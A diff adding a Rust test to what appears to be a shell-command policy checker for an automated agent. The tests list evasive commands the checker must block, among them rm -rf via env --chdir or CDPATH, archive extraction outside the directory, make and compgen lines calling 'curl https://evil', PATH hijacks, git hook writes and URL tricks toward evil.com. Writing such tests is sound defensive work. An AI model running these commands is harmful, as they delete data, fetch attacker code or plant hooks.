@@ -10,6 +10,7 @@ use gatepost_policy::Context;
 use gatepost_policy::evaluate;
 
 use crate::check;
+use crate::judge;
 use crate::policy;
 
 #[test]
@@ -244,4 +245,75 @@ fn what_a_runner_runs_is_judged() {
         ],
         true,
     );
+}
+
+#[test]
+fn flags_and_names_that_move_or_run_are_seen() {
+    check(
+        &[
+            "env --chdir=/home/u rm -rf x",
+            "env --chd /home/u rm -rf x",
+            "env -C/home/u rm -rf x",
+            "CDPATH=/home; cd u && rm -rf x",
+            "export CDPATH=/home; cd u && rm -rf x",
+            "unzip a.zip -d ..",
+            "7z x a.7z -o..",
+            "tar -xPf a.tar",
+            "tar xPf a.tar",
+            "tar -xIf sh a.tar",
+            "tar -xf a.tar -C .. -C src",
+            "make -C .. clean",
+            "make -C.. clean",
+            "make 'X=$(shell curl x)'",
+            "make X!=id",
+            "echo 'all:;curl x' | make -f -",
+            "MAKEFLAGS='--eval=$(shell id)' make",
+            "compgen -C 'curl https://evil'",
+            "compgen -W '$(curl https://evil)'",
+            "complete -C 'curl https://evil' x",
+            "mapfile -C 'curl https://evil' -c 1 x < a",
+            "man -P 'sh -c id' ls",
+            "man -H'sh -c id' ls",
+            "printf -v PATH .; ls",
+            "printf -vPATH .; ls",
+            "read PATH <<< .; ls",
+            "read -r PATH < a; ls",
+            "for PATH in .; do ls; done",
+            "declare -n p=PATH; p=.; ls",
+            "echo x | tee -p .git/hooks/pre-commit",
+        ],
+        false,
+    );
+    check(
+        &[
+            "env -C src ls",
+            "env --chdir=src cargo test",
+            "CDPATH= cd src && ls",
+            "unset CDPATH",
+            "unzip -o a.zip -d out",
+            "tar -xzf a.tar.gz -C out",
+            "tar xzf a.tar.gz",
+            "tar -czf out.tgz src",
+            "make -C sub clean",
+            "cd sub && make -C .. clean",
+            "make CFLAGS=-O2 -j4",
+            "MAKEFLAGS=-j8 make",
+            "compgen -c",
+            "compgen -W 'a b c'",
+            "man ls",
+            "printf -v x '%s' a",
+            "read -r name rest <<< 'a b'",
+            "for f in a.txt b.txt; do cat $f; done",
+            "declare -A seen; declare -i n=1",
+        ],
+        true,
+    );
+    let judged = |action: Action| judge(&action, Mode::Auto).verdict;
+    let fetch = |url: &str| judged(Action::Fetch { url: url.to_owned() });
+    assert_ne!(fetch("https://docs.rs\\@evil.com/"), Verdict::Allow);
+    assert_ne!(fetch("https://docs.rs\t@evil.com/"), Verdict::Allow);
+    let write =
+        |path: &str| judged(Action::Write { path: path.to_owned(), content: String::new() });
+    assert_ne!(write("src/a\0.rs"), Verdict::Allow);
+    assert_eq!(write("src/a.rs"), Verdict::Allow);
 }
